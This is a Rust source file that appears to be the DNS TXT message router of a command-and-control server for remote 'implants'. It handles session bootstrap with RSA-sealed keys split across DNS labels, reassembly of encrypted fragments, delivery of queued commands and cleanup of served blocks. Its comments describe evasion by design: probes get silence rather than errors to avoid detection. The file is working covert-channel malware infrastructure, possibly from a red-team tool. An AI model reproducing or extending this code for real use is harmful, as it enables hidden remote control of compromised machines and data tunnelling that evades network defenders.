//! TXT message router.
//!
//! Classifies a parsed subdomain by its trailing tag and dispatches to the
//! stores. Replies are TXT strings; errors are recovered here per kind:
//! malformed input, unknown tags, and arity mismatches produce an empty
//! answer without touching any state, crypto and session failures produce a
//! `"1"` status for session-bound handlers and an empty answer for the
//! bootstrap path. An empty answer is deliberate leak avoidance: probes get
//! silence, never NXDOMAIN or an error string.

use prost::Message;

use crate::codec::{self, MsgType};
use crate::errors::TunnelError;
use crate::pb::{BlockHeader, Envelope};
use crate::reassembly::Ingest;
use crate::tunnel::Tunnel;

pub(crate) fn route(tunnel: &Tunnel, subdomain: &str) -> Vec<String> {
    let fields = codec::split_fields(subdomain);
    let Some((tag, args)) = fields.split_last() else {
        return Vec::new();
    };
    let Some(msg_type) = MsgType::from_tag(tag) else {
        log::debug!("unknown msg tag '{}' in TXT query", tag);
        return Vec::new();
    };

    match msg_type {
        MsgType::DomainKey => reply_or_empty(domain_key(tunnel, args)),
        MsgType::BlockRange => match block_range(tunnel, args) {
            Ok(chunks) => chunks,
            Err(e) => {
                log::debug!("block range request rejected: {}", e);
                Vec::new()
            }
        },
        MsgType::ClearBlock => match clear_block(tunnel, args) {
            Ok(cleared) => vec![if cleared { "1" } else { "0" }.to_string()],
            Err(e) => {
                log::debug!("clear request rejected: {}", e);
                Vec::new()
            }
        },
        // Bootstrap failures answer with silence, not a status.
        MsgType::SessionInit => reply_or_empty(session_init(tunnel, args)),
        MsgType::SessionHeader => status(session_header(tunnel, args)),
        MsgType::SessionMsg => status(session_msg(tunnel, args)),
        MsgType::SessionPoll => match session_poll(tunnel, args) {
            Ok(reply) => vec![reply],
            Err(TunnelError::ArityMismatch) => Vec::new(),
            Err(e) => {
                log::debug!("session poll failed: {}", e);
                vec!["1".to_string()]
            }
        },
    }
}

fn reply_or_empty(result: Result<String, TunnelError>) -> Vec<String> {
    match result {
        Ok(reply) => vec![reply],
        Err(e) => {
            log::debug!("handler produced no answer: {}", e);
            Vec::new()
        }
    }
}

fn status(result: Result<(), TunnelError>) -> Vec<String> {
    match result {
        Ok(()) => vec!["0".to_string()],
        Err(TunnelError::ArityMismatch) => Vec::new(),
        Err(e) => {
            log::debug!("session handler failed: {}", e);
            vec!["1".to_string()]
        }
    }
}

/// `_domainkey`: publish the apex public key PEM as a send block and
/// announce its coordinates.
fn domain_key(tunnel: &Tunnel, args: &[&str]) -> Result<String, TunnelError> {
    let &[_nonce, implant_name] = args else {
        return Err(TunnelError::ArityMismatch);
    };
    let pem = tunnel.keypair().public_pem();
    let (block_id, count) = tunnel.store().store(pem.as_bytes());
    log::debug!(
        "apex key for '{}' stored as block {} ({} chunks)",
        implant_name,
        block_id,
        count
    );
    Ok(format!("{}.{}", block_id, count))
}

/// `_b`: serve chunks `[start, stop)` of a send block.
fn block_range(tunnel: &Tunnel, args: &[&str]) -> Result<Vec<String>, TunnelError> {
    let &[_nonce, start, stop, block_id] = args else {
        return Err(TunnelError::ArityMismatch);
    };
    let start: usize = start.parse().map_err(|_| TunnelError::InvalidRange)?;
    let stop: usize = stop.parse().map_err(|_| TunnelError::InvalidRange)?;
    Ok(tunnel.store().range(block_id, start, stop))
}

/// `_cb`: drop a send block once the implant has it.
fn clear_block(tunnel: &Tunnel, args: &[&str]) -> Result<bool, TunnelError> {
    let &[_nonce, block_id] = args else {
        return Err(TunnelError::ArityMismatch);
    };
    Ok(tunnel.store().clear(block_id))
}

/// `_si`: session bootstrap. The RSA ciphertext is too large for one 63-byte
/// label, so the sealed-key field may span every label between the nonce and
/// the implant name; they are rejoined before decoding.
fn session_init(tunnel: &Tunnel, args: &[&str]) -> Result<String, TunnelError> {
    if args.len() < 3 {
        return Err(TunnelError::ArityMismatch);
    }
    let implant_name = args[args.len() - 1];
    let sealed_key = codec::decode_base32(&args[1..args.len() - 1].concat())?;
    tunnel
        .sessions()
        .open(tunnel.keypair(), &sealed_key, implant_name)
}

/// `_sh`: decrypt a block header and announce the block for reassembly.
fn session_header(tunnel: &Tunnel, args: &[&str]) -> Result<(), TunnelError> {
    let &[_nonce, sealed_header, session_id] = args else {
        return Err(TunnelError::ArityMismatch);
    };
    let session = tunnel
        .sessions()
        .lookup(session_id)
        .ok_or(TunnelError::UnknownSession)?;
    let header_bytes = session.key().open(&codec::decode_base32(sealed_header)?)?;
    let header = BlockHeader::decode_bytes(&header_bytes)?;
    if header.id.is_empty() {
        return Err(TunnelError::Decode);
    }
    tunnel.reassembly().announce(&header.id, header.size as usize)?;
    session.touch();
    Ok(())
}

/// `s`: ingest one fragment; on block completion decrypt the ciphertext,
/// decode the envelope and hand it to the registered waiter.
fn session_msg(tunnel: &Tunnel, args: &[&str]) -> Result<(), TunnelError> {
    let &[_nonce, data, sealed_header_id, session_id] = args else {
        return Err(TunnelError::ArityMismatch);
    };
    let session = tunnel
        .sessions()
        .lookup(session_id)
        .ok_or(TunnelError::UnknownSession)?;
    let header_id_bytes = session.key().open(&codec::decode_base32(sealed_header_id)?)?;
    let header_id = String::from_utf8(header_id_bytes).map_err(|_| TunnelError::Decode)?;

    let outcome = match tunnel.reassembly().ingest(&header_id, &[data]) {
        // A fragment for an already-delivered (or never-announced) block is
        // dropped but acknowledged, so a retrying client stops resending.
        Err(TunnelError::UnknownBlock) => {
            log::debug!("session {}: fragment for unknown block dropped", session.id);
            session.touch();
            return Ok(());
        }
        other => other?,
    };
    session.touch();

    if let Ingest::Complete(ciphertext) = outcome {
        let plaintext = session.key().open(&ciphertext)?;
        let envelope = Envelope::decode_bytes(&plaintext)?;
        if envelope.id.is_empty() {
            log::debug!("session {}: envelope without correlation id dropped", session.id);
        } else {
            session.deliver(envelope);
        }
    }
    Ok(())
}

/// `_sp`: drain one queued envelope, seal it, pre-chunk it, and point the
/// implant at the block. `"0"` means the outbox is empty.
fn session_poll(tunnel: &Tunnel, args: &[&str]) -> Result<String, TunnelError> {
    let &[_nonce, session_id] = args else {
        return Err(TunnelError::ArityMismatch);
    };
    let session = tunnel
        .sessions()
        .lookup(session_id)
        .ok_or(TunnelError::UnknownSession)?;
    session.touch();

    let Some(envelope) = session.next_outbound() else {
        return Ok("0".to_string());
    };
    let sealed = session.key().seal(&envelope.encode_to_vec())?;
    let (block_id, count) = tunnel.store().store(&sealed);
    Ok(format!("{}.{}", block_id, count))
}
